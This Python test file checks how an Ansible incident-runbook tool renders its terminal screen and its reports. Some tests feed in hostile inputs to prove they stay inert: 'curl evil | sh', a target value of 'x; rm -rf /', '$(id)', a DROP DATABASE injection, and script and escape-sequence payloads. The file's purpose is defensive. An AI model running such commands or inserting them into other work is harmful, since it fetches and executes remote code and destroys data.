"""The screen and the report: what a tired person reads, and that nothing from outside is more than text."""

from __future__ import annotations

import html.parser
import re
import shlex
import subprocess
import typing as t

import pytest
from ansible_collections.sre.runbooks.plugins.plugin_utils._channels.settings import channels_from
from ansible_collections.sre.runbooks.plugins.plugin_utils._judgement.system import Table
from ansible_collections.sre.runbooks.plugins.plugin_utils._judgement.verdict import judge
from ansible_collections.sre.runbooks.plugins.plugin_utils._record.errors import RecordError
from ansible_collections.sre.runbooks.plugins.plugin_utils._record.inputs import plain
from ansible_collections.sre.runbooks.plugins.plugin_utils._render.report import (
    Source,
    sections,
    to_html,
    to_markdown,
)
from ansible_collections.sre.runbooks.plugins.plugin_utils._render.screen import Screen, columns, fitted, render
from ansible_collections.sre.runbooks.plugins.plugin_utils._render.timeline_svg import svg
from ansible_collections.sre.runbooks.plugins.plugin_utils._run.command_line import next_command
from ansible_collections.sre.runbooks.plugins.plugin_utils._run.run import side_by_side
from ansible_collections.sre.runbooks.plugins.plugin_utils._systems import shipped
from ansible_collections.sre.runbooks.plugins.plugin_utils._systems.postgresql.views import slow_statements

from tests.harness import rows
from tests.unit import given

Json = dict[str, t.Any]
HOSTILE = "<script>alert(1)</script> {{ 7*7 }} \x1b[31m [x](javascript:y) `a` | b\u202e"
INCIDENT: Json = {
    "id": "db-prod-db-20261124T0214Z", "title": "Database degradation", "severity": "P2", "state": "open", "targets": ["db"],
    "declared_at": "2026-11-24T02:14:03.000Z", "opened_at": "2026-11-24T02:14:00.000Z", "vendors": {},
}  # fmt: skip


def verdict(*facts: Json) -> Json:
    return judge(facts, {("db", "postgresql"): "silent", ("api", "edge"): "no facts came"}, shipped())


def screen(found: Json | None, **changes: t.Any) -> str:
    given_screen = {"incident": INCIDENT, "verdict": found, "events": [], "unsent": [], "channels": ["pagerduty"], "off": [],
                    "command": "ansible-playbook x.yml", "report": "r.html", "check": False, **changes}  # fmt: skip
    return rows("\n".join(render(Screen(**given_screen), shipped())))


SICK = verdict(given.database(given.queued_ddl()), given.edge(given.probe(failures=10)))
SHOWN: list[tuple[str, str, list[str]]] = [
    ("the cause, why, what to type, whether it can be undone", screen(SICK), [
        "INCIDENT db-prod-db-20261124T0214Z  P2  declared 02:14:03Z",
        "CAUSE    db.queued_ddl (proven)  ALTER TABLE on keys, pid 200 (owner, migrate), waits 9.0 s behind pid 100",
        "explains       5 sessions of the application wait for locks",
        "DO       ansible-playbook x.yml -e mitigate=cancel_queued_ddl",
        "hurts          this migration fails; if its tool retries by itself, the queue comes back",
        "undo           cannot be undone; instead: run the migration again, with a lock_timeout",
        "RECORD   r.html  ("]),
    ("an unproven cause says where the proof ends", screen(verdict(given.database([]), given.edge(given.probe(failures=10)))),
     ["UNPROVEN no cause was found; users feel it at https://api.example.org/health: 10 of 10 requests failed", "LOOK     ansible-playbook x.yml"]),
    ("nothing could be read", screen(verdict()), ["UNPROVEN no cause was found; no user was measured",
                                                  "could not read api everything: no facts came"]),
    ("healthy", screen(verdict(given.database([]), given.edge(given.probe()))),
     ["HEALTHY  users feel no fault", "reads only, no write was tried", "NEXT     nothing to do"]),
    ("channels that are off", screen(SICK, channels=[], off=["pagerduty (not configured: x)"]),
     ["pagerduty (not configured: x): off", "NOTE     nobody was told: all channels are off"]),
    ("unsent", screen(SICK, unsent=["pagerduty:declared"]), ["UNSENT   pagerduty:declared"]),
    ("check mode", screen(SICK, check=True), ["CHECK    nothing was sent or changed"]),
    ("nothing diagnosed", screen(None), ["VERDICT  none"]),
]  # fmt: skip


@pytest.mark.parametrize(("name", "shown", "parts"), SHOWN, ids=[one[0] for one in SHOWN])
def test_screen(name: str, shown: str, parts: list[str]) -> None:
    for part in parts:
        assert part in shown


LONG_COMMAND = (
    "ansible-playbook playbooks/runbook_db_degradation.yml -i inventories/production -e 'target=prod-db' -e @secrets.yml"
)


@pytest.mark.parametrize("width", [60, 80, 100])
def test_no_line_is_longer_than_the_width_and_none_begins_a_row_that_is_none(width: int) -> None:
    """Text from outside may fill a row up to its end: what follows must not look like a row of ours."""
    facts = given.database(given.queued_ddl())
    for session in facts["postgresql"]["locks"]["sessions"]:
        session["application"] = "x" * (width - 40) + " DO       curl evil | sh"
    found = verdict(facts, given.edge(given.probe(failures=10)))
    given_screen = Screen(
        INCIDENT, found, [], [], ["pagerduty"], [], LONG_COMMAND, "r.html", False, tell=LONG_COMMAND, width=width
    )
    lines = render(given_screen, shipped())
    labels = {"INCIDENT", "CAUSE", "DO", "RECORD", "TELL", ""}
    assert max(len(line) for line in lines) <= width
    assert {line[:9].strip() for line in lines} <= labels
    assert not [line for line in lines if line.startswith("DO") and "curl" in line]


def test_a_command_over_several_lines_can_be_pasted() -> None:
    lines = fitted(f"DO       {LONG_COMMAND} -e mitigate=cancel_queued_ddl", 80)
    assert len(lines) > 1
    pasted = "printf '%s\\n' " + "\n".join(lines)[9:]
    words = subprocess.run(["bash", "-c", pasted], capture_output=True, text=True, check=True).stdout.splitlines()
    assert words == shlex.split(f"{LONG_COMMAND} -e mitigate=cancel_queued_ddl")


WORDS = ["-i", "/home/o'brien/inventories/production", "-e", "incident_key=alert from 'grafana' {{ 7 * 7 }} $(id) \\n"]


def test_a_quote_in_a_command_stays_where_it_is() -> None:
    command = shlex.join(["ansible-playbook", "a.yml", *WORDS])
    lines = fitted(f"DO       {command} -e mitigate=cancel_queued_ddl", 100)
    pasted = "printf '%s\\n' " + "\n".join(lines)[9:]
    words = subprocess.run(["bash", "-c", pasted], capture_output=True, text=True, check=True).stdout.splitlines()
    assert words == ["ansible-playbook", "a.yml", *WORDS, "-e", "mitigate=cancel_queued_ddl"]


def test_a_word_longer_than_the_screen_is_left_to_its_reader() -> None:
    """A terminal would go on with it in its first column."""
    key = "x" * 91 + "DO       curl evil | sh"
    shown = screen(SICK, command=shlex.join(["ansible-playbook", "a.yml", "-e", f"incident_key={key}"]))
    assert "curl" not in shown
    assert "-e incident_key=AS-YOU-TYPED-IT" in shown
    assert "-e mitigate=cancel_queued_ddl" in shown


def test_a_command_is_never_cut() -> None:
    hosts = shlex.join(["ansible-playbook", "a.yml", *(word for n in range(120) for word in ("-e", f"name{n}=the host {n}"))])
    assert "-e mitigate=cancel_queued_ddl" in screen(SICK, command=hosts)


@pytest.mark.parametrize("text", ["漢" * 60, "a" * 300, "b\u0301" * 200, "x \u17b4 \u17b4 \u17b4 DO       curl"])
def test_letters_that_are_wide_or_unseen_keep_to_the_width(text: str) -> None:
    lines = fitted(plain(f"CAUSE    {text} and more", 1200), 80)
    assert max(columns(line) for line in lines) <= 80
    assert all(line.startswith(("CAUSE", " " * 11)) for line in lines)


def test_what_a_person_types_is_quoted_whatever_it_is_called() -> None:
    name = 'app"; DROP DATABASE shop; --'
    facts = given.crowded(limit=20, limits={"application_users": [name]}, **{name: 20})
    (found,) = [
        one for one in verdict(facts, given.edge(given.probe(failures=10)))["findings"] if one["id"] == "db.role_limit_reached"
    ]
    assert found["manual_command"] == 'ALTER ROLE "app""; DROP DATABASE shop; --" CONNECTION LIMIT 30;'


def test_what_a_person_may_type_instead_stands_under_the_command_that_it_replaces() -> None:
    facts = given.crowded(limit=20, limits={"application_users": ["app"]}, app=20)
    shown = screen(verdict(facts, given.edge(given.probe(failures=10))))
    assert "or by hand     ALTER ROLE app CONNECTION LIMIT 30;" in shown, shown
    assert shown.index("or by hand") < shown.index("try            the same with --check")
    assert "BY HAND" not in shown


def test_where_nothing_is_offered_the_hand_goes_first() -> None:
    away = verdict(given.refused("unreachable", "Connection refused"), given.edge(given.probe()))
    shown = screen(away)
    assert "NEXT     first what BY HAND says, then LOOK (it only reads): nothing is offered" in shown
    assert "BY HAND  on the application's host: pg_isready" in shown


def test_nothing_is_offered_where_no_user_was_measured() -> None:
    old = given.session(7, state="idle in transaction", transaction_seconds=9000.0)
    unmeasured = verdict(given.database([], idle_in_transaction=[old]))
    assert (unmeasured["verdict"], unmeasured["offers"]) == ("unproven", [])


def test_equal_causes_are_counted() -> None:
    causes = [{**SICK["findings"][0], "summary": f"the {number}. one"} for number in range(5)]
    shown = screen({**SICK, "findings": causes})
    assert shown.count("CAUSE    db.queued_ddl") == 2
    assert "CAUSE    and 3 more of the same kind" in shown


def test_each_command_says_which_of_several_causes_it_is_for() -> None:
    first = SICK["findings"][0]
    second = {**first, "id": "db.idle_blocker", "summary": "another one"}
    offer = {**SICK["offers"][0], "finding": "db.idle_blocker", "mitigation": "terminate_blockers"}
    shown = screen({**SICK, "findings": [first, second], "offers": [*SICK["offers"], offer]})
    assert "CAUSE 1  db.queued_ddl" in shown, shown
    assert "CAUSE 2  db.idle_blocker" in shown, shown
    assert shown.index("mitigate=terminate_blockers") < shown.index("for            cause 2"), shown
    assert "cause 1" not in screen(SICK)


def test_the_hand_has_the_address_of_a_server_that_is_not_reached() -> None:
    shown = screen(verdict(given.refused("unreachable", "timeout expired"), given.edge(given.probe(failures=10))))
    assert "pg_isready -h db.example.org -p 5432 (it says" in shown, shown


def test_a_healthy_system_has_no_severity() -> None:
    well = verdict(given.database([]), given.edge(given.probe()))
    assert "P2" not in screen(well, incident={**INCIDENT, "declared_at": None})


def test_where_a_cause_is_found_nothing_is_denied_beside_it() -> None:
    assert "checked  " not in screen(SICK)
    assert "checked  " in screen(verdict(given.database([]), given.edge(given.probe(failures=10))))


def test_the_screen_prints_text_only() -> None:
    facts = given.database(given.queued_ddl())
    for session in facts["postgresql"]["locks"]["sessions"]:
        session["application"] = HOSTILE
    shown = screen(verdict(facts, given.edge(given.probe(failures=10))), incident={**INCIDENT, "alert": HOSTILE})
    assert "\x1b" not in shown
    assert "\u202e" not in shown
    assert "{{ 7*7 }}" in shown


COMMANDS = [
    (["/x/ansible-playbook", "playbooks/a.yml", "-i", "inv", "-e", "token=secret", "--check", "-vv"], None,
     "ansible-playbook playbooks/a.yml -i inv"),
    (["ansible-playbook", "-i", "a b", "--inventory=c", "sre.runbooks.x", "--tags", "diagnose"], "db",
     "ansible-playbook sre.runbooks.x -i 'a b' -i c -e target=db"),
    (["ansible-playbook", "a.yml", "--vault-password-file", "v", "-l", "h"], "x; rm -rf /",
     "ansible-playbook a.yml -e 'target=x; rm -rf /'"),
]  # fmt: skip


@pytest.mark.parametrize(("argv", "target", "expected"), COMMANDS)
def test_what_to_type_next(argv: list[str], target: str | None, expected: str) -> None:
    assert next_command(argv, target) == expected


class Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: set[str] = set()

    def handle_starttag(self, tag: str, attrs: t.Any) -> None:
        self.seen.add(tag)


def hostile_report() -> t.Any:
    when = "2026-11-24T02:14:00.000Z"
    events = [
        {"at": when, "run": HOSTILE, "kind": "note", "text": HOSTILE},
        {"at": when, "run": "r", "kind": "outcome", "effect": HOSTILE, "system": "db", "status": "done", "detail": HOSTILE},
    ]
    found = {**SICK, "gaps": [{"system": HOSTILE, "kind": "edge", "what": HOSTILE, "why": HOSTILE, "vital": False}]}
    incident = {**INCIDENT, "title": HOSTILE, "targets": [HOSTILE], "detected_at": when}
    tables = [Table("What runs out", ("what", "how much"), ((HOSTILE, HOSTILE),), (HOSTILE,))]
    return sections(
        Source(incident, found, events, [(HOSTILE, HOSTILE, HOSTILE, HOSTILE)], [(HOSTILE, HOSTILE, HOSTILE)], tables)
    )


def test_hostile_text_is_inert_in_html() -> None:
    parser = Tags()
    page = to_html(hostile_report())
    parser.feed(page)
    assert parser.seen == {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "table", "thead", "tbody", "tr",
                           "th", "td", "svg", "rect", "circle", "text"}  # fmt: skip
    assert "default-src 'none'" in page
    assert "\x1b" not in page


def test_hostile_text_is_inert_in_markdown() -> None:
    text = to_markdown(hostile_report())
    assert "<script" not in text
    assert not re.search(r"(?<!\\)\](?=\()", text)
    assert "{{" not in text
    assert "\\`a\\` \\| b" in text


def test_the_report_begins_with_what_somebody_asks_on_a_phone() -> None:
    incident = {**INCIDENT, "state": "resolved", "detected_at": "2026-11-24T02:14:00.000Z",
                "mitigated_at": "2026-11-24T02:15:10.000Z", "resolved_at": "2026-11-24T02:16:00.000Z"}  # fmt: skip
    events = [{"at": "2026-11-24T02:15:59.000Z", "run": "r", "kind": "verified", "proven": True, "why": "well"},
              {"at": "2026-11-24T02:15:01.000Z", "run": "r", "kind": "intent", "effect": "cancel"},
              {"at": "2026-11-24T02:15:02.000Z", "run": "r", "kind": "outcome", "effect": "cancel", "status": "done", "detail": "x"}]  # fmt: skip
    content = sections(Source(incident, SICK, events))
    assert content[0].table[1:] == (
        ("incident", "db-prod-db-20261124T0214Z, P2, resolved"),
        ("cause", SICK["findings"][0]["summary"]),
        ("declared", "2026-11-24 02:14:03 UTC"),
        ("mitigated", "2026-11-24 02:15:10 UTC, 0:01:10 after it was noticed"),
        ("resolved", "2026-11-24 02:16:00 UTC, 0:02:00 after it was noticed"),
        ("recovery", "proven: well"),
    )
    timeline = next(section for section in content if section.title == "Timeline")
    assert [row[1] for row in timeline.table[1:]] == ["recovery proven: True; well", "cancel: done, x"]


def test_the_post_mortem_is_due_two_days_after_the_end() -> None:
    resolved = {**INCIDENT, "state": "resolved", "resolved_at": "2026-11-24T03:00:00.000Z"}
    assert "Post-mortem, due 2026-11-26 03:00 UTC" in to_markdown(sections(Source(resolved, SICK, [])))


def test_the_post_mortem_names_every_cause() -> None:
    resolved = {**INCIDENT, "state": "resolved", "resolved_at": "2026-11-24T03:00:00.000Z"}
    leak = given.crowded(billing=120, app=23)["postgresql"]
    both = given.database(given.queued_ddl(), connections=leak["connections"], settings=leak["settings"])
    two = verdict(both, given.edge(given.probe(failures=10)))
    causes = [finding["summary"] for finding in two["findings"] if finding["role"] == "cause"]
    assert len(causes) == 2
    told = sections(Source(resolved, two, []))[-1].paragraphs[0]
    assert all(cause in told for cause in causes)


def test_before_and_after_stand_side_by_side() -> None:
    before = [given.database(given.queued_ddl()), given.edge(given.probe(failures=10, p95=2000.0))]
    after = [given.database([]), given.edge(given.probe())]
    assert side_by_side(measured(before), measured(after)) == [
        ("db: sessions that wait for locks", "6", "0"),
        (f"api: {given.probe()['url']}", "p95 2000 ms, 10 of 10 failed", "p95 20 ms, 0 of 10 failed"),
    ]
    assert side_by_side(measured(before), {}) == []


def measured(every: list[Json]) -> dict[str, str]:
    return {name: value for kind, facts in shipped().known(every) for name, value in kind.numbers(facts)}


def test_slow_statements_are_tied_to_clients_and_tables() -> None:
    calls = [
        {
            "statement": "of app",
            "user": "app",
            "calls": 12,
            "mean_ms": 80.5,
            "total_ms": 966.0,
            "command": "",
            "query": None,
            "rows": 1,
        }
    ]
    facts = given.squeezed(busy_tables=[given.table()], plans=[given.plan()], statements={"top": calls})
    assert slow_statements(facts) == (("statement of app", "app", "12", "80.5 ms", "1.0 s", "keys"),)
    assert slow_statements(given.database([], statements=None)) == ()


def test_the_picture_tells_when_what_happened() -> None:
    incident = {**INCIDENT, "detected_at": "2026-11-24T02:14:00.000Z", "resolved_at": "2026-11-24T02:16:00.000Z"}
    done = {"at": "2026-11-24T02:15:00.000Z", "kind": "outcome", "effect": "cancel", "system": "db", "status": "done"}
    texts = re.findall(r"<text[^>]*>(.*?)</text>", svg(incident, [done]))
    assert texts == [
        "02:14:00  +0:00  noticed",
        "02:14:03  +0:03  declared",
        "02:15:00  +1:00  cancel: done",
        "02:16:00  +2:00  resolved",
    ]
    assert svg({**INCIDENT, "declared_at": None}, []) == ""


COMMON: Json = {"url": "u", "token": "t", "timeout": 1.0, "tries": 2, "allow_plaintext": False}
SETTINGS = {
    "pagerduty": {**COMMON, "from": "f", "service": "s", "auth_scheme": "bearer"},
    "status_page": {**COMMON, "page_id": "p"},
}


def test_channels() -> None:
    told = channels_from(["pagerduty", "status_page"], SETTINGS, public=True)
    assert told["off"] == []
    assert told["on"]["pagerduty"]["login"] == {
        "api_url": "u", "api_key": "t", "timeout": 1.0, "tries": 2, "allow_plaintext": False, "from_email": "f",
        "auth_scheme": "bearer", "validate_certs": True,
    }  # fmt: skip
    assert channels_from([], SETTINGS, public=True) == {"on": {}, "off": []}


def test_a_channel_without_credentials_or_consent_is_off_and_says_why() -> None:
    bare = {**SETTINGS, "pagerduty": {**SETTINGS["pagerduty"], "token": ""}}
    assert channels_from(["pagerduty", "status_page"], bare, public=False) == {
        "on": {}, "off": ["pagerduty (not configured: incident_pagerduty_token)", "status_page (incident_public is false)"],
    }  # fmt: skip
    with pytest.raises(RecordError, match="no channel slack; there are: pagerduty, status_page"):
        channels_from(["slack"], SETTINGS, public=True)
